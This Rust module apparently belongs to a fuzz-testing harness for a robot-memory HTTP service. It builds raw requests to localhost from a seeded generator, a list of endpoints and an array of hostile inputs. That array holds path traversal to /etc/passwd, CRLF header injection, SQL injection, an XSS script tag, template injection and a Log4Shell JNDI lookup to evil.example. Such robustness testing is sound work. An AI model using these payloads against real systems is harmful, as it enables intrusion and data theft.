//! What hostile requests are made of: numbers from a seed, paths, and texts.

use robot_memory_core::api::{self, Operation};

/// Whom requests are sent to, and what a caller may have who should not get far.
#[derive(Debug, Clone)]
pub struct Aim {
    /// `127.0.0.1:PORT`
    pub host: String,
    /// Reads what all may read.
    pub reader: String,
    /// Was somebody's.
    pub removed: String,
}

/// What is done once a request was sent.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Then {
    /// It is whole, and its answer ends the connection.
    ReadAll,
    /// There is no more to come.
    SayEnd,
    /// Nobody waits for the answer.
    Leave,
    /// The answer may never end.
    ReadSome,
}

/// A request.
#[derive(Debug, Clone)]
pub struct Hostile {
    pub kind: &'static str,
    pub bytes: Vec<u8>,
    pub then: Then,
    /// Whether a success is rightful.
    pub may_succeed: bool,
}

/// Numbers from a seed (SplitMix64).
#[derive(Debug, Clone)]
pub struct Dice(u64);

impl Dice {
    pub fn new(seed: u64, number: u64) -> Self {
        let mut dice = Self(seed ^ number.wrapping_mul(0x9e37_79b9_7f4a_7c15));
        dice.next();
        dice
    }

    pub fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut mixed = self.0;
        mixed = (mixed ^ (mixed >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        mixed ^ (mixed >> 31)
    }

    /// Less than this.
    pub fn below(&mut self, end: usize) -> usize {
        (self.next() % end as u64) as usize
    }

    pub fn one<'a, T: ?Sized>(&mut self, all: &[&'a T]) -> &'a T {
        all[self.below(all.len())]
    }

    pub fn is(&mut self) -> bool {
        self.below(2) == 0
    }

    pub fn bytes(&mut self, count: usize) -> Vec<u8> {
        (0..count).map(|_| self.next() as u8).collect()
    }
}

macro_rules! names {
    ($($queue:ident $op:ident $request:tt -> $response:ident $(in $field:ident)?;)+) => {
        [$((stringify!($queue), api::$op::NAME)),+]
    };
}

/// Each operation, with what it does to the store.
pub fn operations() -> Vec<(&'static str, &'static str)> {
    robot_memory_core::operations!(names).to_vec()
}

/// What can be looked at: `{id}` is some number, `{text}` some text.
pub const VIEWS: [&str; 25] = [
    "/",
    "/healthz",
    "/login",
    "/login?token={text}",
    "/metrics",
    "/openapi.json",
    "/timeline",
    "/memories/{id}",
    "/map",
    "/limits",
    "/tasks",
    "/contradictions",
    "/jobs",
    "/memory/jobs",
    "/memory/jobs/{id}",
    "/api/v1/memories/{id}",
    "/api/v1/keyframes/{id}.jpg",
    "/api/v1/clips/{id}.mcap",
    "/api/v1/sessions?limit={id}&cursor={text}",
    "/api/v1/sessions/{text}",
    "/api/v1/jobs?limit={text}&cursor={id}",
    "/api/v1/jobs/{id}",
    "/api/v1/timeline?n={id}&cursor={text}&kinds={text}",
    "/api/v1/events",
    "/mcp",
];
/// What anybody may get.
pub const PUBLIC: [&str; 4] = ["/healthz", "/login", "/logout", "/openapi.json"];
/// Where an answer goes on until somebody ends it.
pub const STREAMS: [&str; 2] = ["/api/v1/events", "/mcp"];

/// Texts that some program somewhere takes for something else than a text.
pub const TEXTS: [&str; 22] = [
    "",
    "0",
    "-1",
    "99999999999999999999",
    "1e999",
    "NaN",
    "null",
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/",
    "%00",
    "a%0d%0ax-injected: 1%0d%0a",
    "%0d%0aFORGED%20LINE",
    "%c0%ae%c0%ae%2f",
    "%ff%fe",
    "%",
    "%zz",
    "' OR 1=1 --",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "\u{202e}\u{0}\u{feff}",
];

/// A request with headers beside those that each has.
pub fn request(method: &str, path: &str, headers: &str, body: &[u8], aim: &Aim) -> Vec<u8> {
    let head = format!(
        "{method} {path} HTTP/1.1\r\nHost: {}\r\nConnection: close\r\n{headers}Content-Length: {}\r\n\r\n",
        aim.host,
        body.len()
    );
    [head.as_bytes(), body].concat()
}

pub fn bearer(token: &str) -> String {
    format!("Authorization: Bearer {token}\r\n")
}

pub fn made(
    kind: &'static str,
    bytes: impl Into<Vec<u8>>,
    then: Then,
    may_succeed: bool,
) -> Hostile {
    Hostile { kind, bytes: bytes.into(), then, may_succeed }
}

/// Whatever stands in a path.
pub fn view(dice: &mut Dice) -> String {
    let path = dice.one(&VIEWS).replace("{id}", &dice.below(100_000_000).to_string());
    path.replace("{text}", &dice.one(&TEXTS).replace(|c: char| c <= ' ' || !c.is_ascii(), "%20"))
}

pub fn is_of(path: &str, all: &[&str]) -> bool {
    all.contains(&path.split(['?', ';']).next().unwrap_or_default())
}
